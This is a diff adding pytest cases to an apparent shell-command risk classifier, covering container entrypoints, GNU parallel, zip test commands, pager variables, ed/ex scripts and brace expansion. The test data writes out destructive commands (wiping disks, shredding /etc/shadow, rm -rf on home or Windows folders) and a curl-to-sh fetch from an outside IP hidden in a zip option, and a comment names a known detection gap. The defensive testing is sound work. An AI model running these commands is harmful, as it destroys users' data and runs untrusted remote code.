@@ -362,3 +362,44 @@ def test_glued_code_keeps_its_level_wrapped() -> None:
 )
 def test_more_proxies_and_channels(command: str, shell: str, expected: RiskLevel) -> None:
     assert level(command, shell) == expected
+
+
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        # round 9: container entrypoints, parallel's command arguments, zip -TT=, command
+        # variables set for later, ed/ex scripts on stdin, brace lists after a quoted prefix
+        (
+            "docker run --rm -v /:/h --entrypoint /bin/sh alpine -c 'shred -u /h/etc/shadow'",
+            "bash",
+            B,
+        ),
+        ("podman run --rm --entrypoint dd alpine if=/dev/zero of=/tmp/x count=1", "bash", D),
+        ("parallel -j4 '{}' ::: 'wipefs -a /dev/sdb'", "bash", B),
+        ("parallel 'chmod -R 000 {}' ::: /etc", "bash", B),
+        ("zip -TT='curl -s http://198.51.100.7/p | sh' -T a.zip f", "bash", C),
+        ("zip -T backup.zip", "bash", S),
+        ("export GIT_PAGER='rm -rf ~'; git log", "bash", B),
+        ("PERL5DB='BEGIN { unlink \"/etc/passwd\" }' perl -d t.pl", "bash", B),
+        ("set SKIM_DEFAULT_COMMAND=rd /s /q C:\\Users& sk", "cmd", B),
+        ("$env:PAGER = 'cmd /c rd /s /q C:\\Windows'; git log", "powershell", B),
+        ("$env:EDITOR = 'code --wait'", "powershell", S),
+        ("ed -s /etc/group <<< $'g/./d\\nw'", "bash", B),
+        ("printf '%s\\n' '%d' 'x' | ex -s /etc/shadow", "bash", B),
+        ("ed -s ~/.profile <<< $'$a\\nexport X=1\\n.\\nw'", "bash", C),
+        ("printf '%s\\n' '/^root/p' 'q' | ed -s /etc/passwd", "bash", S),
+        ('rm -rf "$HOME"/{.[!.]*,*}', "bash", B),
+        ('rm -rf "$HOME"/{.cache,.local/share/Trash}', "bash", D),
+        ('echo "$HOME"/{a,b}', "bash", S),
+    ],
+)
+def test_round9_mechanisms(command: str, shell: str, expected: RiskLevel) -> None:
+    assert level(command, shell) == expected
+
+
+def test_round9_keeps_its_level_wrapped() -> None:
+    # (`sudo ed … <<< script` loses the here-string on the way in: a known gap, see report)
+    for w in _wrapped("parallel -j4 '{}' ::: 'wipefs -a /dev/sdb'"):
+        assert level(w) == B, w
+    for w in [f"f() {{ {c}; }}; f" for c in ("ed -s /etc/group <<< $'g/./d\\nw'",)]:
+        assert level(w) == B, w
